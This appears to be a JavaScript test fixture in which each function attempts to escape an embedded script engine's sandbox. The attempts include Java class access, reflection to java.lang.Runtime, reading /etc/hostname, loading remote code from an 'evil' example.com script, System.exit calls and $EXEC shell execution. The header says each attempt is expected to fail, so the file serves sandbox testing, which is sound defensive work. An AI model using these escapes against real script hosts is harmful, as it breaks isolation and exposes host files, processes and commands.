/*
 * The ways out of escapes.js again, written the ES6 way (const, let, arrow functions, template
 * literals): each must still fail as that record's UDF error. Function declarations keep the names
 * global, as the test looks them up; the work is done by ES6 code inside.
 */
const tryIt = (escape) => escape();

function javaType(inJson) {
  return tryIt(() => `${Java.type('java.lang.Runtime').getRuntime().availableProcessors()}`);
}

function packages(inJson) {
  return tryIt(() => `${Packages.java.lang.System.getProperty('user.home')}`);
}

function javaGlobal(inJson) {
  return tryIt(() => `${java.lang.System.getProperty('user.home')}`);
}

function javaxGlobal(inJson) {
  return tryIt(() => `${new javax.script.ScriptEngineManager()}`);
}

function javaImporter(inJson) {
  return tryIt(() => `${new JavaImporter(java.io)}`);
}

function loadFile(inJson) {
  const file = '/etc/hostname';
  return tryIt(() => load(file));
}

function loadUrl(inJson) {
  const url = `https://example.com/${'evil'}.js`;
  return tryIt(() => load(url));
}

function loadNewGlobal(inJson) {
  return tryIt(() => `${loadWithNewGlobal({ script: 'java.lang.System.exit(3)', name: 'x.js' })}`);
}

function exitProcess(inJson) {
  let code = 3;
  return tryIt(() => exit(code));
}

function quitProcess(inJson) {
  let code = 3;
  return tryIt(() => quit(code));
}

function polyglot(inJson) {
  return tryIt(() => `${Polyglot.eval('js', '1')}`);
}

function engineGlobal(inJson) {
  return tryIt(() => `${engine.getFactory().getScriptEngine().eval('java.lang.System.exit(3)')}`);
}

function contextGlobal(inJson) {
  return tryIt(() => context.getWriter().println('escaped'));
}

function reflection(inJson) {
  return tryIt(() => `${inJson.getClass().forName('java.lang.Runtime')}`);
}

function classLoader(inJson) {
  return tryIt(() => `${inJson.getClass().getClassLoader()}`);
}

function globalThisJava(inJson) {
  const global = Function('return this')();
  return tryIt(() => `${global['Java'].type('java.lang.System')}`);
}

/* -scripting mode's shell access: $EXEC runs a command there. */
function shellExec(inJson) {
  return tryIt(() => `${$EXEC('id')}`);
}

/* In -scripting mode a backquoted string runs as a shell command; in ES6 it is a template. */
function backquote(inJson) {
  return JSON.stringify({ out: `id` });
}
